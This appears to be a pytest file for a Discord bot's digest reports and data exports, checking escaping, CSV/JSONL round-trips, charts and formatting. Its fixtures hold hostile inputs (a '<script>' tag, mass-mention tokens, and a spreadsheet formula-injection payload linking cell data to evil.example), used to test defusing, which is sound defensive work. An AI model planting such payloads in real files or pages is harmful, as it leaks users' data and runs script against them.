"""The digest's files: Markdown and HTML reports, CSV/JSONL exports, the PNG chart, write_digest_files."""

from __future__ import annotations

import csv
import dataclasses
import json
from dataclasses import replace
from datetime import date, timedelta
from html.parser import HTMLParser
from pathlib import Path

import matplotlib.image
import pytest
from PIL import Image

from bot.digests import exports
from bot.digests.chart import _points as chart_points
from bot.digests.document import Code, to_html, to_markdown
from bot.digests.formatting import column_percents, fit_change, fit_with_ci, percent, share_change, share_with_ci
from bot.digests.model import Difference, Estimate
from bot.digests.pseudonyms import export_pseudonym
from bot.digests.report import (
    render_chart,
    render_html,
    render_json,
    render_markdown,
    write_digest_files,
    write_exports,
)
from bot.digests.rows import AuditRow, DigestRows
from bot.digests.stats import compute_digest, fit_timeline
from bot.digests.summary import digest_embed
from tests.digests.test_stats import END, PREVIOUS_START, answer, comment, rating, reason, rows

PNG_SIGNATURE = b"\x89PNG\r\n\x1a\n"
SECTIONS = (
    "## Summary",
    "## Data-quality notes",
    "## Denominators",
    "## Fit distribution",
    "## Did the last scope change help?",
    "## Where answers fit and where not",
    "### By scope version",
    "### By language",
    "### By channel",
    "### By cue setting (topic; this period)",
    "## Reason tags",
    "## Lowest-fit answers, for follow-up",
    "## Disagreement",
    "## Themes in comments",
    "### Method",
    "## Quotes (members who allowed quoting)",
    "## Scope changes and moderator actions",
    "## How to read this",
)
HOSTILE = 'Ping <@123456789012345678> and <@&987654321> and <@!42> @everyone @here <script>alert("x")</script> | # *'


def period_rows() -> tuple[DigestRows, DigestRows]:
    """A small but complete period: versions, languages, reasons, comments (some hostile), scope changes."""
    topics = [
        "bapak ibu honorific greeting formal",
        "honorific greeting elder formal bapak",
        "sambal spicy rice warung lunch",
        "rice sambal warung spicy dinner",
    ]
    answers = [
        answer(
            i,
            version=1 if i < 6 else 2,
            language=("id", "en", "vi")[i % 3],
            setting=("workplace", None)[i % 2],
            question=f"Question {i}: {HOSTILE}",
            text=("Thick answer about register and hierarchy. " * 20) + HOSTILE,
            day=16 + i % 7,
        )
        for i in range(12)
    ]
    # Asked in public by members who allow quoting: the reports show the questions, defused.
    answers = [replace(row, question_quotable=True) for row in answers]
    ratings = [
        rating(i, rater, (i + k) % 3 + 1)
        for i in range(12)
        for k, rater in enumerate(("ana", "budi", "citra"))
        if (i + k) % 4
    ]
    comments = [
        comment(c, c % 12, ("ana", "budi", "citra")[c % 3], f"{topics[c % 4]} {HOSTILE}", quotable=c % 2 == 0)
        for c in range(24)
    ]
    comments.append(comment(99, 0, "dewi", 'Quote "this", please, with a comma\nand a new line\u2028and U+2028'))
    reasons = [reason(i, "ana", ("too generic", "useful")[i % 2]) for i in range(12)]
    audit = [
        AuditRow("scope.edit", f"v2: greetings {HOSTILE}", "2026-11-19T08:00:00.000Z"),
        AuditRow("settings.update", "answer channels", "2026-11-20T08:00:00.000Z"),
    ]
    current = rows(
        answers,
        ratings,
        reasons=reasons,
        comments=comments,
        audit=audit,
        declined=2,
        withdrew=1,
        guild_name=f"Kopi {HOSTILE}",
    )
    previous = rows(
        [answer(100 + i, version=1, day=9 + i % 7) for i in range(6)],
        [rating(100 + i, "ana", 2) for i in range(6)],
        previous=True,
    )
    return current, previous


# ---------------------------------------------------------------------------------------------- formatting


def test_interval_formatting():
    assert share_with_ci(Estimate(0.62, 0.51, 0.72, 40, 120)) == "62% (95% CI 51–72%)"
    # Each share is rounded on its own, as the summary's are: equal counts read alike, and one of six reads 17% in
    # the table as in the summary's fit share (it read 16% next to another 17%), though the column makes 101%.
    assert column_percents([2, 3, 2]) == ["29%", "43%", "29%"]
    assert column_percents([1, 1, 1]) == ["33%", "33%", "33%"]
    assert column_percents([1, 4, 1]) == ["17%", "67%", "17%"]
    assert column_percents([1, 7]) == ["13%", "88%"]  # halves up: 12.5% is 13%, not the even 12%
    assert column_percents([249, 1, 0]) == ["99.6%", "0.4%", "0%"]
    assert column_percents([0, 0]) == ["—", "—"]
    assert percent(0.125) == "13%" and percent(0.285) == "29%" and percent(1 / 6) == "17%"
    assert percent(0.9995) == ">99.9%" and percent(0.0004) == "<0.1%" and percent(0.9994) == "99.9%"
    # Near the ends the value shows a decimal, and so do its bounds, which never leave the value out.
    assert share_with_ci(Estimate(0.99933, 0.998, 1.0, 1500, 1500)) == "99.9% (95% CI 99.8–100.0%)"
    assert share_with_ci(Estimate(0.003, 0.0, 0.0049, 1000, 1000)) == "0.3% (95% CI 0.0–0.5%)"
    assert share_with_ci(Estimate(0.62, 0.625, 0.72, 40, 120)) == "62% (95% CI 62–72%)"
    assert fit_with_ci(Estimate(0.6234, 0.55, 0.701, 40, 120)) == "0.62 (95% CI 0.55–0.70)"
    assert share_with_ci(Estimate(1.0, None, None, 1, 1)) == "100% (no interval: one rated answer)"
    assert share_with_ci(Estimate(None, None, None, 0, 0)) == "—"
    assert share_change(Difference("a", "b", 0.05, -0.031, 0.12)) == "+5 pts (95% CI −3 to +12)"
    # A bound off zero shows the decimals that keep its side (0.00 would hide that it is above zero).
    assert fit_change(Difference("a", "b", -0.1, -0.2, 0.004)) == "−0.10 (95% CI −0.20 to +0.004)"
    assert fit_change(Difference("a", "b", -0.1, -0.2, 0.0)) == "−0.10 (95% CI −0.20 to 0.00)"


# ---------------------------------------------------------------------------------------------- reports


def test_markdown_has_every_section_and_never_pings():
    current, previous = period_rows()
    markdown = render_markdown(compute_digest(current, previous))
    positions = [markdown.index(section) for section in SECTIONS]
    assert positions == sorted(positions)
    assert "@everyone" not in markdown and "@here" not in markdown and "<@" not in markdown
    assert "<script>" not in markdown  # member text is escaped, not markup
    assert "Member A" in markdown and "not shown: their authors did not allow quoting" in markdown
    assert "(not for quoting)" not in markdown
    assert "Krippendorff's alpha" in markdown
    assert "95% CI" in markdown
    for line in markdown.splitlines():
        if line.startswith("|"):  # member text cannot break a table row
            assert line.endswith("|")


def test_html_is_self_contained_escaped_and_never_pings(tmp_path: Path):
    current, previous = period_rows()
    digest = compute_digest(current, previous)
    chart = render_chart(current, [previous], digest, tmp_path / "chart.png")
    page = render_html(digest, chart=chart)
    assert page.startswith("<!DOCTYPE html>") and page.rstrip().endswith("</html>")
    assert "@everyone" not in page and "@here" not in page and "<@" not in page
    assert "<script>" not in page and "&lt;script&gt;" in page
    assert 'src="data:image/png;base64,' in page
    assert "http://" not in page and "https://" not in page  # nothing loaded from elsewhere
    for section in SECTIONS:
        assert section.lstrip("# ") in page


class _TagBalance(HTMLParser):
    """Fails on a closing tag that does not match the open one (void elements aside)."""

    VOID = frozenset({"meta", "img", "br", "hr", "link", "input"})

    def __init__(self) -> None:
        super().__init__()
        self.open: list[str] = []

    def handle_starttag(self, tag, attrs):
        if tag not in self.VOID:
            self.open.append(tag)

    def handle_endtag(self, tag):
        assert self.open and self.open.pop() == tag, f"unbalanced </{tag}>"


def test_html_is_well_formed():
    current, previous = period_rows()
    checker = _TagBalance()
    checker.feed(render_html(compute_digest(current, previous)))
    checker.close()
    assert checker.open == []


def test_empty_period_reports_render():
    digest = compute_digest(rows(), None)
    markdown = render_markdown(digest)
    assert "No ratings in this period." in markdown
    assert "No rated answers in this period." in markdown
    assert "## How to read this" in markdown
    assert "<html" in render_html(digest)


# ---------------------------------------------------------------------------------------------- exports


def test_exports_round_trip_through_csv_and_json(tmp_path: Path):
    current, _ = period_rows()
    paths = write_exports(current, tmp_path)
    assert sorted(path.name for path in paths) == sorted(
        [f"{name}.{ext}" for name in ("answers", "ratings", "reasons", "comments") for ext in ("csv", "jsonl")]
        + ["codebook.md", "codebook.csv"]
    )
    with (tmp_path / "comments.csv").open(encoding="utf-8", newline="") as handle:
        table = list(csv.DictReader(handle))
    lines = (tmp_path / "comments.jsonl").read_text(encoding="utf-8").split("\n")
    assert lines[-1] == "" and len(lines) - 1 == len(current.comments)
    records = [json.loads(line) for line in lines[:-1]]
    assert len(table) == len(records) == len(current.comments)
    tricky = next(record for record in records if record["comment_id"] == 99)
    assert tricky["text"] == 'Quote "this", please, with a comma\nand a new line\u2028and U+2028'
    assert next(row for row in table if row["comment_id"] == "99")["text"] == tricky["text"]
    assert "\u2028" not in (tmp_path / "comments.jsonl").read_text(encoding="utf-8")  # escaped in JSONL
    for row, record, original in zip(table, records, current.comments, strict=True):
        assert row["quotable"] == ("true" if original.quotable else "false") and record["quotable"] is original.quotable
        # The server's own pseudonym (a one-way hash of the stored one), the same in both files.
        assert record["rater_hash"] == export_pseudonym(current.guild_id, original.rater_hash) == row["rater_hash"]
        # Mention tokens carry Discord ids: pseudonymised files replace them.
        assert "<@" not in record["text"] and "<@" not in row["text"]
    with (tmp_path / "ratings.csv").open(encoding="utf-8", newline="") as handle:
        ratings = list(csv.DictReader(handle))
    assert list(ratings[0]) == [
        "answer_id",
        "rater_hash",
        "value",
        "scale_size",
        "is_asker",
        "source",
        "created_at",
        "updated_at",
        "fit",
    ]
    for fields, given in zip(ratings, current.ratings, strict=True):
        assert int(fields["value"]) == given.value
        assert float(fields["fit"]) == (given.value - 1) / (given.scale_size - 1)
    answers = [json.loads(line) for line in (tmp_path / "answers.jsonl").read_text(encoding="utf-8").splitlines()]
    assert [record["answer_id"] for record in answers] == [row.answer_id for row in current.answers]
    assert answers[1]["setting"] is None and answers[0]["scope_version"] == 1
    raw = (tmp_path / "answers.csv").read_bytes()
    assert raw.count(b"\r\n") >= len(current.answers) + 1 and not raw.startswith(b"\xef\xbb\xbf")


def test_exports_keep_non_ascii_text_readable(tmp_path: Path):
    texts = ["Chào anh, xưng hô như vậy là quá trang trọng. " * 5, "Plain ASCII answer, with a comma. " * 5]
    data = rows([answer(1, text=texts[0]), answer(2, text=texts[1], setting=None, language=None)])
    write_exports(data, tmp_path)
    raw = (tmp_path / "answers.jsonl").read_text(encoding="utf-8")
    assert "Chào anh" in raw and "\\u" not in raw  # UTF-8 as written, not \u escapes
    assert [json.loads(line)["answer"] for line in raw.splitlines()] == texts
    with (tmp_path / "answers.csv").open(encoding="utf-8", newline="") as handle:
        table = list(csv.DictReader(handle))
    assert [row["answer"] for row in table] == texts and table[1]["language"] == ""


@pytest.mark.parametrize(
    "texts",
    [
        ["Plain ASCII, nothing to escape.", "Another one (with a comma, too)."],  # written between quotes as they are
        ["Plain ASCII", "with a tab\there"],
        ["Plain ASCII", "with a delete character\x7f"],
        ["Plain ASCII", 'with a "quote"'],
        ["Plain ASCII", "with a back\\slash"],
    ],
)
def test_jsonl_texts_are_what_json_writes(tmp_path: Path, texts: list[str]):
    data = rows([answer(index + 1, text=text) for index, text in enumerate(texts)])
    write_exports(data, tmp_path)
    lines = (tmp_path / "answers.jsonl").read_text(encoding="utf-8").splitlines()
    for line, text in zip(lines, texts, strict=True):
        assert '"answer":' + json.dumps(text) + "," in line
        assert json.loads(line)["answer"] == text


def test_jsonl_texts_are_checked_piece_by_piece(tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
    """A big server's texts are scanned for escapes a piece at a time: one in a later piece still counts."""
    monkeypatch.setattr(exports, "_SCAN", 4)
    texts = ["Plain ASCII text", "and then a tab\tin the second"]
    write_exports(rows([answer(index + 1, text=text) for index, text in enumerate(texts)]), tmp_path)
    lines = (tmp_path / "answers.jsonl").read_text(encoding="utf-8").splitlines()
    assert [json.loads(line)["answer"] for line in lines] == texts
    assert '"answer":' + json.dumps(texts[1]) + "," in lines[1]


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A2,"click")', "+1", "-x", "@SUM(1+1)", "\tx", "\rx"]


@pytest.mark.parametrize(
    "texts",
    [
        [*FORMULAS, "An ordinary comment."],  # quotes and a CR: the column is quoted, inner quotes doubled
        ["+1", "-x", "@SUM(1+1)", "\tx", "=1+1", "An ordinary comment."],  # nothing to quote: written bare
        ["-x", "An ordinary comment, with a comma."],  # quoted, no inner quote
    ],
)
def test_csv_cells_that_start_like_a_formula_are_shown_as_text(tmp_path: Path, texts: list[str]):
    """Spreadsheets run a cell starting with = + - @ (or a tab or CR before one) as a formula, even quoted:
    the CSV prefixes such texts with "'" (OWASP); the JSONL keeps them exact, numbers are never prefixed."""
    answers = [
        replace(answer(1, question="=1+1", text="-x", language="-x", setting="=a,b"), tokens_in=-5),
        answer(2, question="How do I greet my manager?", language=None, setting=None),
    ]
    ratings = [rating(1, "ana", 0), rating(2, "budi", 3)]  # a value of 0 on a 3-point scale: fit -0.5
    comments = [comment(index, 1, "ana", text) for index, text in enumerate(texts)]
    write_exports(rows(answers, ratings, comments=comments), tmp_path)

    def csv_rows(name: str) -> list[dict[str, str]]:
        with (tmp_path / f"{name}.csv").open(encoding="utf-8", newline="") as handle:
            return list(csv.DictReader(handle))

    def jsonl_rows(name: str) -> list[dict[str, object]]:
        return [json.loads(line) for line in (tmp_path / f"{name}.jsonl").read_text(encoding="utf-8").splitlines()]

    defused = ["'" + text if text[0] in "=+-@\t\r" else text for text in texts]
    assert [row["text"] for row in csv_rows("comments")] == defused
    assert defused[-1] == texts[-1]  # an ordinary text is unchanged
    assert [record["text"] for record in jsonl_rows("comments")] == texts
    raw = (tmp_path / "comments.csv").read_bytes()
    if "\rx" in texts:  # a field holding a CR is quoted (RFC 4180)
        assert b'"\'\rx"' in raw
    # Questions and answers, and other text columns (nullable ones and ones of few values too).
    fields = ("question", "answer", "language", "setting")
    table, records = csv_rows("answers"), jsonl_rows("answers")
    assert [[row[name] for name in fields] for row in table] == [
        ["'=1+1", "'-x", "'-x", "'=a,b"],
        ["How do I greet my manager?", "It depends on the setting and the relationship.", "", ""],
    ]
    assert [records[0][name] for name in fields] == ["=1+1", "-x", "-x", "=a,b"]
    assert table[0]["tokens_in"] == "-5" and records[0]["tokens_in"] == -5  # numbers stay numbers
    assert [row["fit"] for row in csv_rows("ratings")] == ["-0.5", "1.0"]
    assert [record["fit"] for record in jsonl_rows("ratings")] == [-0.5, 1.0]


def test_exports_of_an_empty_period_have_headers(tmp_path: Path):
    write_exports(rows(), tmp_path)
    assert (tmp_path / "reasons.csv").read_bytes() == b"answer_id,rater_hash,tag\r\n"
    assert (tmp_path / "reasons.jsonl").read_bytes() == b""


# ---------------------------------------------------------------------------------------------- chart


def assert_png(path: Path) -> None:
    assert path.read_bytes()[:8] == PNG_SIGNATURE
    with Image.open(path) as image:
        image.verify()
    with Image.open(path) as image:
        assert image.format == "PNG" and image.size == (1000, 400)
    assert matplotlib.image.imread(path).shape[:2] == (400, 1000)


def test_chart_is_a_valid_png(tmp_path: Path):
    current, previous = period_rows()
    digest = compute_digest(current, previous)
    assert_png(render_chart(current, [previous], digest, tmp_path / "chart.png"))


def test_chart_of_an_empty_period(tmp_path: Path):
    empty = rows()
    assert_png(render_chart(empty, None, compute_digest(empty, None), tmp_path / "chart.png"))


def test_chart_with_a_long_history_goes_weekly(tmp_path: Path):
    current, previous = period_rows()
    older = []
    for month in (8, 9):
        asked = f"2026-{month:02d}-03T10:00:00.000Z"
        rows_of_month = rows(
            [replace(answer(1000 + month), created_at=asked)],
            [replace(rating(1000 + month, "ana", 3), created_at=asked, updated_at=asked)],
        )
        older.append(
            replace(rows_of_month, start=f"2026-{month:02d}-01T00:00:00.000Z", end=f"2026-{month:02d}-08T00:00:00.000Z")
        )
    digest = compute_digest(current, previous)
    history = [*older, previous]
    points, weekly = chart_points([*history, current], digest)
    assert weekly and [point.day for point in points][:2] == ["2026-08-03", "2026-08-31"]  # Mondays
    assert_png(render_chart(current, history, digest, tmp_path / "chart.png"))
    # With just the digest's own two periods, the line is the digest's daily timeline.
    assert chart_points([previous, current], digest) == (list(digest.timeline), False)


def test_the_chart_of_two_long_periods_draws_the_digests_weekly_timeline(tmp_path: Path):
    """Two 28-day periods span more than 35 days: weekly points, from the digest rather than the rows, so that
    the worker (which drops the previous period's rows) draws the previous period's weeks too."""
    day = date(2026, 2, 1)

    def period(first: int, start: date) -> DigestRows:
        answers, ratings = [], []
        for offset in range(28):
            asked = (start + timedelta(days=offset)).isoformat() + "T10:00:00.000Z"
            for k in range(2):
                answer_id = first + offset * 2 + k
                answers.append(replace(answer(answer_id), created_at=asked))
                ratings += [
                    replace(rating(answer_id, rater, (offset + k + r) % 3 + 1), created_at=asked, updated_at=asked)
                    for r, rater in enumerate(("ana", "budi"))
                ]
        stamp = start.isoformat() + "T00:00:00.000Z", (start + timedelta(days=28)).isoformat() + "T00:00:00.000Z"
        return replace(rows(answers, ratings), start=stamp[0], end=stamp[1])

    previous, current = period(1000, day - timedelta(days=28)), period(1, day)
    digest = compute_digest(current, previous, bootstrap=200)
    stripped = DigestRows(previous.guild_id, previous.guild_name, previous.start, previous.end, audit=previous.audit)
    full = chart_points([previous, current], digest)
    assert full == chart_points([stripped, current], digest) == (list(digest.weekly_timeline), True)
    # The weeks' fits are those of a weekly timeline over both periods' rows (intervals from other draws).
    expected = fit_timeline([previous, current], bootstrap=200, weekly=True)
    assert [(p.day, p.mean_fit.value, p.mean_fit.ratings, p.mean_fit.answers) for p in digest.weekly_timeline] == [
        (p.day, p.mean_fit.value, p.mean_fit.ratings, p.mean_fit.answers) for p in expected
    ]
    assert [p.fit_share.value for p in digest.weekly_timeline] == [p.fit_share.value for p in expected]
    assert len(digest.weekly_timeline) == 9 and digest.weekly_timeline[0].day == "2025-12-29"  # a Monday
    # Every week of five rated answers or more has its interval (the first, cut by the period's start, has fewer).
    assert all(p.mean_fit.low is not None for p in digest.weekly_timeline if p.mean_fit.answers >= 5)
    assert sum(p.mean_fit.low is not None for p in digest.weekly_timeline) >= 8
    assert_png(render_chart(current, [stripped], digest, tmp_path / "chart.png"))
    assert compute_digest(current, None).weekly_timeline == ()  # 28 days alone: daily, no weekly timeline


# ---------------------------------------------------------------------------------------------- all files


def test_write_digest_files(tmp_path: Path):
    current, previous = period_rows()
    files = write_digest_files(current, previous, tmp_path / "out", seed=3)
    for path in (files.markdown, files.html, files.chart, files.json, *files.exports):
        assert path.exists() and path.parent == tmp_path / "out"
    assert [path.name for path in (files.markdown, files.html, files.chart, files.json)] == [
        "report.md",
        "report.html",
        "chart.png",
        "digest.json",
    ]
    assert len(files.exports) == 10  # four tables as CSV and JSONL, and the codebook
    assert json.loads(files.json.read_text(encoding="utf-8")) == json.loads(json.dumps(files.digest.to_dict()))
    assert files.digest.seed == 3
    assert files.markdown.read_text(encoding="utf-8") == render_markdown(files.digest)
    assert_png(files.chart)
    again = write_digest_files(current, previous, tmp_path / "again", seed=3)
    assert again.markdown.read_text(encoding="utf-8") == files.markdown.read_text(encoding="utf-8")


def test_digest_json_is_the_digest_one_entry_per_line():
    current, previous = period_rows()
    digest = compute_digest(current, previous)
    text = render_json(digest)
    plain = digest.to_dict()
    assert json.loads(text) == json.loads(json.dumps(plain))  # the same data as json.dumps(indent=...) gave
    lines = text.splitlines()
    assert lines[0] == "{" and lines[-1] == "}" and len(lines) == len(plain) + 2
    assert [json.loads("{" + line.rstrip(",") + "}").popitem()[0] for line in lines[1:-1]] == list(plain)
    assert "\\u" not in text or "\\u" in json.dumps(plain, ensure_ascii=False)  # Unicode kept readable


@pytest.mark.parametrize("name", ["report.md", "report.html", "digest.json"])
def test_no_pings_in_any_text_file(tmp_path: Path, name: str):
    current, previous = period_rows()
    write_digest_files(current, previous, tmp_path)
    text = (tmp_path / name).read_text(encoding="utf-8")
    assert "@everyone" not in text and "@here" not in text and "<@" not in text


def test_previous_period_start_is_shown():
    current, previous = period_rows()
    digest = compute_digest(current, previous)
    assert digest.previous is not None and digest.previous.start == PREVIOUS_START


def test_the_feedback_cut_says_after_the_period_only_when_it_was_after_the_end():
    """An export counts feedback up to when it was made: after the period's end for a past period (the report
    says so), before it for a period still running (and then it must not claim feedback from after the end)."""
    digest = compute_digest(rows(), None)  # the period ends at END, 2026-11-23 00:00 UTC

    def period_line(feedback_before: str | None) -> str:
        markdown = render_markdown(replace(digest, feedback_before=feedback_before))
        return next(line for line in markdown.splitlines() if line.startswith("Period "))

    later = period_line("2026-11-25T08:30:00.000Z")
    assert later.endswith(
        "seed 0. Ratings and comments as of 2026-11-25 08:30 UTC, including those given after the period ended."
    )
    running = period_line("2026-11-20T10:15:00.000Z")
    assert "after the period ended" not in running
    assert running.endswith(
        "seed 0. Answers, ratings and comments as of 2026-11-20 10:15 UTC: the period had not ended yet."
    )
    assert period_line(END).endswith("seed 0.")  # what a digest made at the period's end had: nothing to add
    assert period_line(None).endswith("seed 0.")
    assert period_line("soon").endswith("seed 0. Ratings and comments as of soon.")  # not a time: no claim


def test_counts_of_one_are_singular():
    digest = compute_digest(rows([answer(1)], [rating(1, "ana", 2)]), None)
    markdown = render_markdown(digest)
    assert "(1 rated answer), 1 rating by 1 member" in markdown
    assert "3-point scale (1 rating)" in markdown
    assert "from 1 rating of 1 answer." in markdown
    [answers] = [field.value for field in digest_embed(digest, None, "").fields if field.name == "Answers"]
    assert answers == (
        "1 answer, 100% rated; 1 rating from 1 member; 0 comments; 0 members taking part at the period's end "
        "(0 declined)"
    )


def test_the_embeds_share_rated_names_its_denominator_when_some_answers_could_not_be_rated():
    """Six failed answers and four rated ones: 100% of the four shown with rating controls, not of all ten (the
    embed said "10 answers, 100% rated", where the report says "100% of the 4 answers that could be rated")."""
    answers = [answer(i, outcome="failed") for i in range(6)] + [answer(i) for i in range(6, 10)]
    digest = compute_digest(rows(answers, [rating(i, "ana", 3) for i in range(6, 10)]), None)
    [field] = [field.value for field in digest_embed(digest, None, "").fields if field.name == "Answers"]
    assert str(field).startswith(
        "10 answers; 100% of the 4 answers that could be rated were rated; 4 ratings from 1 member"
    )
    assert "Rated: 100% of the 4 answers that could be rated" in render_markdown(digest)


def test_an_unrated_single_answer_reads_in_the_singular():
    digest = compute_digest(rows([answer(1)], [], comments=[comment(1, 1, "ana", "Too formal")]), None)
    markdown = render_markdown(digest)
    assert "of the 1 answer that could be rated" in markdown
    assert "1 comment with text, 0 grouped by shared words" in markdown
    assert "1 answer, none rated: there is no fit to report." in markdown
    assert "Answers rated by two or more members: 0; with split ratings: 0." in markdown


def test_the_codebook_describes_every_exported_column_and_no_other(tmp_path: Path):
    current, _ = period_rows()
    write_exports(current, tmp_path)
    with (tmp_path / "codebook.csv").open(encoding="utf-8", newline="") as handle:
        codebook = list(csv.DictReader(handle))
    assert all(row["type"] and len(row["description"]) > 20 for row in codebook)
    described = [(row["file"], row["column"]) for row in codebook]
    exported = []
    for table in ("answers", "ratings", "reasons", "comments"):
        with (tmp_path / f"{table}.csv").open(encoding="utf-8", newline="") as handle:
            exported += [(table, column) for column in next(csv.reader(handle))]
    assert described == exported
    markdown = (tmp_path / "codebook.md").read_text(encoding="utf-8")
    assert all(f"| `{column}` |" in markdown for _, column in exported)
    assert "(value - 1) / (scale_size - 1)" in markdown
    assert "3-point scale: 1 = Does not fit, 2 = Partly fits, 3 = Fits." in markdown


def test_the_summary_reconciles_rated_answers_with_the_share_rated():
    """The share rated counts the answers shown with rating controls; a failed or refused answer rated with a
    reaction all the same is named apart, so that the numbers add up (1 of 2 ratable answers rated: 50%)."""
    answers = [answer(1), answer(2), answer(3, outcome="refused")]
    digest = compute_digest(rows(answers, [rating(1, "ana", 3), rating(3, "budi", 1)]), None, bootstrap=10)
    assert digest.current.denominators.rated_unratable == 1
    assert (
        "Rated: 50% of the 2 answers that could be rated (1 rated answer; 1 failed or refused answer rated too, "
        "counted in the fit), 2 ratings by 2 members"
    ) in render_markdown(digest)
    alone = compute_digest(rows(answers[:2], [rating(1, "ana", 3)]), None, bootstrap=10)
    assert "Rated: 50% of the 2 answers that could be rated (1 rated answer), 1 rating by 1 member" in render_markdown(
        alone
    )


def test_a_code_block_is_copied_as_it_is_in_both_formats():
    code = Code("culturebot digest --from `x` <b>&")
    assert to_markdown([code]) == "```\nculturebot digest --from `x` <b>&\n```\n"
    assert to_markdown([Code("a ``` b")]) == "````\na ``` b\n````\n", "a fence no run of backticks inside ends"
    assert "<pre><code>culturebot digest --from `x` &lt;b&gt;&amp;</code></pre>" in to_html("t", [code])


def test_the_report_ends_with_how_to_make_it_again():
    digest = compute_digest(rows([answer(1)], [rating(1, "ana", 3)]), None, bootstrap=10, timezone="Asia/Jakarta")
    markdown = render_markdown(digest)
    assert markdown.index("## How to read this") < markdown.index("## Provenance")
    assert (
        "culturebot digest --db DATABASE --guild 42 --from 2026-11-16T00:00:00.000Z --to 2026-11-23T00:00:00.000Z "
        "--timezone Asia/Jakarta --feedback-until 2026-11-23T00:00:00.000Z --out FOLDER"
    ) in markdown
    assert f"Made by culturebot {digest.culturebot_version} (digest.json format 2)." in markdown


def test_reason_tags_give_their_share_of_the_periods_ratings():
    """4 ratings this period, 2 with "too generic" (50%) and 1 with "useful" (25%); 2 before, 1 "too generic"."""
    now = rows(
        [answer(1), answer(2)],
        [rating(1, "ana", 1), rating(1, "budi", 2), rating(2, "ana", 3), rating(2, "citra", 1)],
        reasons=[reason(1, "ana", "too generic"), reason(2, "citra", "too generic"), reason(2, "ana", "useful")],
    )
    before = rows([answer(11, day=10)], [rating(11, "ana", 1, day=11), rating(11, "budi", 3, day=11)], previous=True)
    before = dataclasses.replace(before, reasons=[reason(11, "ana", "too generic")])
    markdown = render_markdown(compute_digest(now, before, bootstrap=10))
    assert "| too generic | 2 (50%) | 1 (50%) |" in markdown
    assert "| useful | 1 (25%) | 0 (0%) | 3/3: 1 |" in markdown
    assert "a rating can carry several tags" in markdown


@pytest.mark.parametrize(
    ("said", "written"),
    [
        ("---", "\\---"),  # a thematic break: the member's words vanished into a line
        ("- too formal", "\\- too formal"),  # a list item: the dash was lost
        ("+ fine", "\\+ fine"),
        ("1. too formal 2. too long", "1\\. too formal 2. too long"),  # an ordered list (only a line start)
        ("12) no", "12\\) no"),
        ("    indented", "indented"),  # four spaces: a code block
        ("===", "\\==="),
        ("fine - mostly", "fine - mostly"),
    ],
)
def test_member_text_at_a_line_start_stays_text_in_markdown(said, written):
    from bot.digests.document import BlockQuote, Bullets, Paragraph

    markdown = to_markdown([BlockQuote(said, "Member A"), Bullets((said,)), Paragraph(said)])
    assert markdown == f"> {written}\n>\n> — Member A\n\n- {written}\n\n{written}\n"


def test_intervals_and_changes_round_halves_as_the_values_do():
    """The value rounded halves up and its bounds and changes to the even digit: "63% (95% CI 50–62%)" left out its
    own estimate, and 50% to 63% read "+12 pts"."""
    from bot.digests.model import Difference

    assert share_with_ci(Estimate(0.625, 0.5, 0.625, 10, 10)) == "63% (95% CI 50–63%)"
    assert share_change(Difference("before", "after", 0.125, 0.025, 0.225)).startswith("+13 pts (95% CI +3 to +23)")
    assert share_change(Difference("before", "after", -0.125, -0.225, -0.025)).startswith("−13 pts")
